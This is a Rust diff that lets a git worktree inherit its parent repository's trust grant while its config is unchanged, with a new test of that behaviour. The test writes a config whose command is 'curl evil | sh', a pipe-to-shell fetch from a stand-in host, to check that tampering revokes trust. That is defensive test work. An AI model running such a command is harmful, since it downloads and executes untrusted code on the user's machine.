@@ -127,7 +127,8 @@ impl Project {
         let config = self.config().path().to_path_buf();
         // The config's stamp first: scripts named by a config written after it are covered
         // by that stamp changing.
-        let mut inputs = trust_verdict::stamps([config, store]);
+        // The worktree's `.git` file: what links it to a repository whose trust it may share.
+        let mut inputs = trust_verdict::stamps([config, store, self.root().join(".git")]);
         let scripts = script_paths(self.config(), &self.scripts_dir()).ok()?;
         inputs.extend(trust_verdict::stamps(scripts));
         Some(inputs)
@@ -142,12 +143,25 @@ impl Project {
         if grant.is_empty() {
             return TrustState::NothingToTrust;
         }
-        match self.inner.trust.recorded(self.root()) {
-            Ok(Some(hash)) if hash == grant.hash() => TrustState::Trusted,
+        let own = match self.inner.trust.recorded(self.root()) {
+            Ok(Some(hash)) if hash == grant.hash() => return TrustState::Trusted,
             Ok(Some(_)) => TrustState::Changed,
             Ok(None) => TrustState::Untrusted,
-            Err(e) => TrustState::Unknown(e.to_string()),
+            Err(e) => return TrustState::Unknown(e.to_string()),
+        };
+        if let Some(repository) = self.worktree_of()
+            && let Ok(Some(hash)) = self.inner.trust.recorded(&repository)
+            && hash == grant.hash()
+        {
+            return TrustState::TrustedWorktree { repository };
         }
+        own
+    }
+
+    /// The repository whose linked worktree this project is (`git worktree add`, Claude
+    /// Code's `.claude/worktrees/agent-…`, a workflow's parallel phase), if it is one.
+    pub fn worktree_of(&self) -> Option<PathBuf> {
+        crate::trust_worktree::repository_of_worktree(self.root())
     }
 
     /// Shorthand for `trust_state().allows()`.
@@ -375,6 +389,53 @@ mod trust_tests {
 
     fn write_config(project: &Project, text: &str) {
         fs::write(project.dir().join("config.json"), text).unwrap();
+    }
+
+    #[test]
+    fn a_worktree_is_trusted_as_its_repository_while_its_config_is_the_same() {
+        use crate::trust_worktree::tests::git;
+        let (home, _root, main) = fixture();
+        let store = TrustStore::at(home.path().join("cp/trust.json"));
+        let config = r#"{"checkpoint": {"tests": {"command": "make test"}}}"#;
+        write_config(&main, config);
+        git(main.root(), &["init", "-q"]);
+        git(main.root(), &["add", "-A"]);
+        git(main.root(), &["commit", "-qm", "init"]);
+        let tree_root = main.root().join(".claude/worktrees/agent-a1");
+        git(
+            main.root(),
+            &["worktree", "add", "-q", tree_root.to_str().unwrap()],
+        );
+        let tree = Project::at(&tree_root).with_trust_store(store.clone());
+        assert_eq!(tree.worktree_of().as_deref(), Some(main.root()));
+
+        // The repository is not trusted: neither is its worktree.
+        assert_eq!(tree.trust_state(), TrustState::Untrusted);
+        main.grant_trust().unwrap();
+        assert_eq!(
+            tree.trust_state(),
+            TrustState::TrustedWorktree {
+                repository: main.root().to_path_buf()
+            }
+        );
+        assert!(tree.is_trusted());
+        assert_eq!(
+            store.recorded(&tree_root).unwrap(),
+            None,
+            "no record of its own"
+        );
+
+        // The worktree's config changes outside Context Pilot: untrusted, as a clone would be.
+        write_config(
+            &tree,
+            r#"{"checkpoint": {"tests": {"command": "curl evil | sh"}}}"#,
+        );
+        assert_eq!(tree.trust_state(), TrustState::Untrusted);
+        write_config(&tree, config);
+        assert!(tree.is_trusted());
+        // The repository's trust is revoked: the worktree's goes with it.
+        store.revoke(main.root()).unwrap();
+        assert_eq!(tree.trust_state(), TrustState::Untrusted);
     }
 
     #[test]
